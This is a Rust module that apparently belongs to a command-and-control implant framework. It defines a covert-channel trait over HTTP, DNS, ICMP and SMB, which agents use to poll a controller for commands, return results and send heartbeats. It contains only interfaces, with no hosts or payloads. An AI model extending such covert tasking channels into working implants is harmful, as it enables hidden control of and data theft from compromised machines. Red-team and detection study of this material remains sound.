//! Covert channel abstraction for Skein agents.
//!
//! One trait, four variants: HTTP, DNS, ICMP, and SMB. Every variant
//! implements the full fixed operation set; operations outside a variant's
//! capability table return their canonical empty value deterministically,
//! which keeps the tasking loop free of per-transport special cases.
//!
//! # Fail-closed contract
//!
//! No channel ever propagates an error past this boundary. Each variant
//! wraps an internal fallible path; the public surface catches any
//! [`ChannelError`](sk_core::ChannelError), logs it, and returns the
//! operation's canonical empty value (`""`, `vec![]`, or `false`). A caller
//! that needs to distinguish "unsupported" from "attempted but failed"
//! consults [`Capabilities`] up front.

pub mod dns;
pub mod http;
pub mod icmp;
pub mod smb;

pub use dns::DnsChannel;
pub use http::HttpChannel;
pub use icmp::IcmpChannel;
pub use smb::SmbChannel;

use async_trait::async_trait;

use sk_core::types::{Command, CommandResult, TransportKind};

/// Per-variant capability table.
///
/// Declares which operations a channel actually implements. Unsupported
/// operations return their canonical empty value without attempting any
/// network I/O.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct Capabilities {
    /// `send_message` carries a payload and returns a response
    pub messaging: bool,
    /// `poll_commands` can retrieve tasking
    pub polling: bool,
    /// `send_output` has a write-back path for results
    pub output: bool,
    /// `heartbeat` can signal liveness
    pub heartbeat: bool,
}

impl Capabilities {
    /// Full capability set (HTTP)
    pub const ALL: Capabilities = Capabilities {
        messaging: true,
        polling: true,
        output: true,
        heartbeat: true,
    };

    /// Message-only channels (DNS, ICMP)
    pub const MESSAGING_ONLY: Capabilities = Capabilities {
        messaging: true,
        polling: false,
        output: false,
        heartbeat: false,
    };
}

/// A covert transport an agent can speak to the controller.
///
/// All methods are infallible by contract: failures surface as the canonical
/// empty value, never as an error or panic.
#[async_trait]
pub trait CovertChannel: Send + Sync {
    /// Which transport this channel speaks
    fn kind(&self) -> TransportKind;

    /// The operations this variant supports
    fn capabilities(&self) -> Capabilities;

    /// Send a message and return the peer's response.
    ///
    /// Canonical empty value: `""`.
    async fn send_message(&self, message: &str) -> String;

    /// Poll the controller for queued commands.
    ///
    /// Canonical empty value: an empty vector.
    async fn poll_commands(&self) -> Vec<Command>;

    /// Report a command result back to the controller.
    ///
    /// Canonical empty value: `false`.
    async fn send_output(&self, result: &CommandResult) -> bool;

    /// Signal liveness to the controller.
    ///
    /// Canonical empty value: `false`.
    async fn heartbeat(&self) -> bool;
}
